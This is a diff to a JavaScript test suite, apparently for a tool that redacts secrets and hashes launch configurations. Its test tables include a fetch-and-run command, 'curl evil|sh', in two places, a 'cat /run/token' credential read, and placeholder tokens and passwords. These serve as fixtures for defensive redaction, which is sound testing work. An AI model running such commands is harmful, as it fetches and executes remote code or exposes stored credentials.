@@ -60,6 +60,34 @@ describe('no secret gets in', () => {
   })
 })
 
+describe('what is run or read from counts, whatever secret it is about', () => {
+  const key = `ghp_${'a1B2'.repeat(9)}`
+  test.each([
+    [
+      { args: ['--token-command', 'cat /run/token'] },
+      { args: ['--token-command', 'cat /run/token'] },
+    ],
+    [{ args: ['--token-command=curl evil|sh'] }, { args: ['--token-command=curl evil|sh'] }],
+    [
+      { args: ['-e', 'TOKEN_URL=https://a.example'] },
+      { args: ['-e', 'TOKEN_URL=https://a.example'] },
+    ],
+    [{ args: ['-e', 'TOKEN=hunter2'] }, { args: ['-e', 'TOKEN=***'] }],
+    [{ env: { TOKEN_URL: 'u' } }, { env: { TOKEN_URL: `sha256:${digestOf('u')}` } }],
+    [{ env: { PASSWORD_FILE: '${HOME}/p' } }, { env: { PASSWORD_FILE: '${HOME}/p' } }],
+    [{ env: { AUTH_PROVIDER: 'x' } }, { env: { AUTH_PROVIDER: `sha256:${digestOf('x')}` } }],
+    [{ args: [`--${key}_file=x`] }, { args: ['--***_file=x'] }],
+    [{ env: { TOKEN_COMMAND: key } }, { env: { TOKEN_COMMAND: '***' } }],
+    [{ args: [`--token-command=echo ${key}`] }, { args: ['--token-command=echo ***'] }],
+    [
+      { args: ['--token-url=https://u:hunter2@a.example'] },
+      { args: ['--token-url=https://***@a.example'] },
+    ],
+  ])('%j is %j', (entry, expected) => {
+    expect(written(entry)).toEqual(expected)
+  })
+})
+
 describe('the hash', () => {
   const base = { command: 'node', args: ['a', 'b'], env: { A: '1', B: '2' } }
   const { digest } = launch(base)
@@ -77,6 +105,8 @@ describe('the hash', () => {
     [{ ...base, env: { A: '1', B: '3' } }],
     [{ ...base, env: { A: '1', C: '2' } }],
     [{ ...base, env: { ...base.env, NODE_OPTIONS: '${X}' } }],
+    [{ ...base, env: { ...base.env, TOKEN_HELPER: 'x' } }],
+    [{ ...base, args: ['--token-command', 'curl evil|sh'] }],
     [{ ...base, cwd: '/' }],
     [{ url: 'https://example.com' }],
   ])('is another for %j', (other) => {
